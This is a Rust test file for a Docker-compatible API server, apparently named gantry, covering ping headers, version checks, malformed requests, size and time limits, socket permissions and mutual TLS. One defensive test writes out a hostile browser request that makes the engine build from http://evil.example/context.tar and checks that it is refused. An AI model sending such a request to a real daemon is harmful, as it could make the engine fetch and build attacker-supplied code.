//! The door itself, over real sockets and raw HTTP: prefixes, headers, refusals, limits, TLS.

#![expect(clippy::unwrap_used, reason = "a test's helper that fails fails its test")]

mod support;

use gantry_server::{Address, Limits, ListenOptions, Listener, TlsFiles};
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::time::Duration;
use support::{Answer, Served};

#[tokio::test(flavor = "multi_thread")]
async fn ping_says_who_we_are() {
    let served = Served::start().await;
    for path in ["/_ping", "/v1.24/_ping", "/v1.51/_ping"] {
        let get = served.get(path).await;
        assert_eq!((get.status, get.body.as_str()), (200, "OK"), "{path}");
        for (name, value) in [
            ("api-version", "1.51"),
            ("ostype", "linux"),
            ("docker-experimental", "false"),
            ("builder-version", "2"),
            ("swarm", "inactive"),
            ("cache-control", "no-cache, no-store, must-revalidate"),
            ("pragma", "no-cache"),
            ("content-type", "text/plain; charset=utf-8"),
        ] {
            assert_eq!(get.header(name), value, "{path} {name}");
        }
        assert!(get.header("server").starts_with("Docker/"));
    }
    let head = served.send("HEAD /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").await;
    assert_eq!((head.status, head.body.as_str()), (200, ""));
}

#[tokio::test(flavor = "multi_thread")]
async fn versions_outside_of_the_range_are_refused() {
    let served = Served::start().await;
    let new = served.get("/v9.99/_ping").await;
    assert_eq!(new.status, 400);
    assert_eq!(new.message(), "client version 9.99 is too new. Maximum supported API version is 1.51");
    let old = served.get("/v1.12/info").await;
    assert_eq!((old.status, old.header("content-type")), (400, "text/plain; charset=utf-8"));
    assert_eq!(
        old.body,
        "client version 1.12 is too old. Minimum supported API version is 1.24, please upgrade your client to a newer version\n"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_that_are_not_there() {
    let served = Served::start().await;
    for path in ["/", "/nonsense", "/v1.44/nonsense", "/v1.44", "/containers", "/vx/info"] {
        let answer = served.get(path).await;
        assert_eq!((answer.status, answer.message().as_str()), (404, "page not found"), "{path}");
    }
    let wrong_method =
        served.send("PATCH /containers/json HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").await;
    assert_eq!(wrong_method.status, 404);
    let unclean = served.get("//containers//json?all=1").await;
    assert_eq!((unclean.status, unclean.header("location")), (301, "/containers/json?all=1"));
    let options = served.send("OPTIONS /anything HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").await;
    assert_eq!(options.status, 200);
}

/// A page may send this to any address unasked; a unix socket is out of its reach.
#[tokio::test(flavor = "multi_thread")]
async fn pages_in_a_browser_are_not_heard_by_tcp() {
    let page = "POST /build?remote=http://evil.example/context.tar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\
        Content-Length: 0\r\nOrigin: http://evil.example\r\n\r\n";
    let ping = "GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let options = ListenOptions { group: None, tls: None };
    let address: Address = "tcp://127.0.0.1:0".parse().unwrap();
    let listener = Listener::open(&address, &options).await.unwrap().remove(0);
    let at = listener.address().to_owned();
    let _served = Served::on(listener, Limits::default()).await;
    let said = |request: &'static str| {
        let at = at.clone();
        tokio::task::spawn_blocking(move || {
            let mut stream = std::net::TcpStream::connect(at).unwrap();
            stream.write_all(request.as_bytes()).unwrap();
            let mut answer = String::new();
            stream.read_to_string(&mut answer).unwrap();
            answer
        })
    };
    let refused = said(page).await.unwrap();
    assert!(refused.starts_with("HTTP/1.1 403 ") && refused.contains("a web page may not"), "{refused}");
    assert!(said(ping).await.unwrap().starts_with("HTTP/1.1 200 "));
    let by_socket = Served::start()
        .await
        .send(&page.replace("POST /build?remote=http://evil.example/context.tar", "GET /_ping"))
        .await;
    assert_eq!(by_socket.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_engine_that_is_in_no_swarm() {
    let served = Served::start().await;
    for path in ["/nodes", "/services", "/tasks", "/secrets", "/configs/x", "/swarm"] {
        let answer = served.get(path).await;
        assert_eq!(answer.status, 503, "{path}");
        assert!(answer.message().starts_with("This node is not a swarm manager."), "{path}");
    }
    assert_eq!(served.get("/plugins").await.body, "[]\n");
    assert_eq!(served.get("/plugins/x/json").await.status, 404);
}

#[tokio::test(flavor = "multi_thread")]
async fn bodies_that_are_none() {
    let served = Served::start().await;
    let post = |content_type: &'static str, body: String| {
        let served = &served;
        async move { served.post("/v1.51/containers/create", content_type, &body).await }
    };
    let cases = [
        ("text/plain", "{}", 400, "unsupported Content-Type header (text/plain): must be 'application/json'"),
        ("", "{}", 400, "malformed Content-Type header (): mime: no media type"),
        ("application/json", "", 400, "invalid JSON: got EOF while reading request body"),
        ("application/json", "{", 400, "invalid JSON: unexpected EOF"),
        ("application/json", "{} {}", 400, "unexpected content after JSON"),
        ("application/json", "{}", 400, "config cannot be empty in order to create a container"),
        ("application/json", "[]", 400, "config cannot be empty in order to create a container"),
        (
            "application/json",
            "{\"Image\": 1}",
            400,
            "invalid JSON: json: cannot unmarshal number into Go value of type string",
        ),
    ];
    for (content_type, body, status, message) in cases {
        let answer = post(content_type, body.to_owned()).await;
        assert_eq!((answer.status, answer.message().as_str()), (status, message), "{body}");
    }
    let charset = post("application/json; charset=utf-8", "{".to_owned()).await;
    assert_eq!(charset.message(), "invalid JSON: unexpected EOF");
}

#[tokio::test(flavor = "multi_thread")]
async fn queries_that_are_none() {
    let served = Served::start().await;
    for path in [
        "/containers/json?filters=nonsense",
        "/containers/json?filters=%7B%22a%22%3A1%7D",
        "/containers/json?all=%zz",
        "/containers/x/logs",
        "/containers/x/archive",
        "/system/df?type=nonsense",
        "/events?since=x",
        "/events?since=10&until=5",
        "/containers/%ff/json",
    ] {
        let answer = served.get(path).await;
        assert_eq!(answer.status, 400, "{path}: {}", answer.body);
        assert!(!answer.message().is_empty());
    }
    assert_eq!(served.get("/containers/json?limit=x").await.status, 500);
}

#[tokio::test(flavor = "multi_thread")]
async fn documents_have_a_limit() {
    let served = Served::with(Limits { document_bytes: 1000, ..Limits::default() }).await;
    let body = format!("{{\"Image\":\"{}\"}}", "x".repeat(2000));
    let answer = served.post("/containers/create", "application/json", &body).await;
    assert_eq!(answer.status, 413);
    assert_eq!(answer.message(), "request body is larger than 1000 bytes");
}

#[tokio::test(flavor = "multi_thread")]
async fn heads_have_a_limit_in_bytes_and_time() {
    let limits = Limits { head_timeout: Duration::from_millis(100), ..Limits::default() };
    let served = Served::with(limits).await;
    let long = format!("GET /_ping HTTP/1.1\r\nHost: x\r\nX-Long: {}\r\n\r\n", "x".repeat(200 << 10));
    assert_eq!(served.send(&long).await.status, 431);
    let many = format!("GET /_ping HTTP/1.1\r\nHost: x\r\n{}\r\n", "X-A: b\r\n".repeat(500));
    assert_eq!(served.send(&many).await.status, 431);
    // A head that never ends: the server hangs up, and goes on serving others.
    let socket = served.socket.clone();
    let heard = tokio::task::spawn_blocking(move || {
        let mut slow = UnixStream::connect(socket).unwrap();
        slow.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        slow.write_all(b"GET /_ping HTTP/1.1\r\nHost: x\r\nX-Slow: ").unwrap();
        let mut heard = Vec::new();
        slow.read_to_end(&mut heard).map(|_| heard)
    });
    let heard = heard.await.unwrap().expect("the server hangs up before the client's patience ends");
    assert!(!heard.windows(6).any(|w| w == b"200 OK"));
    assert_eq!(served.get("/_ping").await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn nonsense_does_not_stop_the_server() {
    let served = Served::start().await;
    for nonsense in [
        "\r\n\r\n",
        "\0\0\0\0",
        "GET\r\n\r\n",
        "GET / HTTP/9.9\r\n\r\n",
        "\x16\x03\x01\x02\x00",
        "POST /containers/create HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
    ] {
        let socket = served.socket.clone();
        tokio::task::spawn_blocking(move || {
            let mut stream = UnixStream::connect(socket).unwrap();
            stream.write_all(nonsense.as_bytes()).unwrap();
            stream.shutdown(std::net::Shutdown::Write).unwrap();
            let mut answer = Vec::new();
            // Refused or hung up on: both are fine, hanging is not.
            stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
            stream.read_to_end(&mut answer).expect("an answer or an end");
        })
        .await
        .unwrap();
    }
    assert_eq!(served.get("/_ping").await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_connection_serves_many_requests() {
    let served = Served::start().await;
    let two = "GET /_ping HTTP/1.1\r\nHost: x\r\n\r\nGET /nonsense HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let text = served.raw(two).await;
    let statuses: Vec<&str> = text.split("HTTP/1.1 ").skip(1).map(|answer| &answer[..3]).collect();
    assert_eq!(statuses, ["200", "404"]);
}

#[tokio::test]
async fn a_unix_socket_is_for_its_group_and_goes_with_its_listener() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("deep").join("x.sock");
    let address = Address::Unix(path.clone());
    let options = ListenOptions { group: Some("0".into()), tls: None };
    let first = Listener::open(&address, &options).await.unwrap();
    assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o660);
    let second = Listener::open(&address, &options).await.unwrap_err();
    assert!(second.to_string().contains("already running"), "{second}");
    drop(first);
    assert!(!path.exists());
    // What a killed engine leaves behind is replaced.
    let left = std::os::unix::net::UnixListener::bind(&path).unwrap();
    // A child that it was just starting may hold it for a moment.
    let child = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(300));
        drop(left);
    });
    let third = Listener::open(&address, &options).await.unwrap();
    assert!(UnixStream::connect(&path).is_ok());
    child.join().unwrap();
    drop(third);
    let nobody = ListenOptions { group: Some("no-such-group".into()), tls: None };
    let err = Listener::open(&address, &nobody).await.unwrap_err().to_string();
    assert!(err.ends_with("group no-such-group not found"), "{err}");
    assert!(!path.exists());
}

#[tokio::test]
async fn sockets_of_systemd_are_only_taken_when_they_are_ours() {
    let err = Listener::open(&Address::Fd(String::new()), &ListenOptions::default()).await.unwrap_err();
    assert!(err.to_string().starts_with("no sockets found via socket activation"));
}

#[tokio::test(flavor = "multi_thread")]
async fn tls_asks_clients_for_a_certificate() {
    let certs = support::Certificates::make();
    let tls = TlsFiles {
        cert: certs.path("server.pem"),
        key: certs.path("server.key"),
        client_ca: Some(certs.path("ca.pem")),
    };
    let tls = tls.load().unwrap();
    let options = ListenOptions { group: None, tls: Some(tls) };
    let mut listeners = Listener::open(&Address::Tcp("127.0.0.1:0".into()), &options).await.unwrap();
    let address = listeners[0].address().to_owned();
    let served = Served::on(listeners.remove(0), Limits::default()).await;
    let request = "GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
    let known = certs.ask(&address, Some("client"), request).await.unwrap();
    assert_eq!(Answer::parse(&known).status, 200);
    assert!(certs.ask(&address, None, request).await.is_err());
    assert!(certs.ask(&address, Some("stranger"), request).await.is_err());
    drop(served);
}

#[test]
fn certificates_that_are_not_there_are_named() {
    let files = TlsFiles {
        cert: "/nonexistent/cert.pem".into(),
        key: "/nonexistent/key.pem".into(),
        client_ca: None,
    };
    let err = files.load().unwrap_err().to_string();
    assert!(err.contains("/nonexistent/"), "{err}");
}
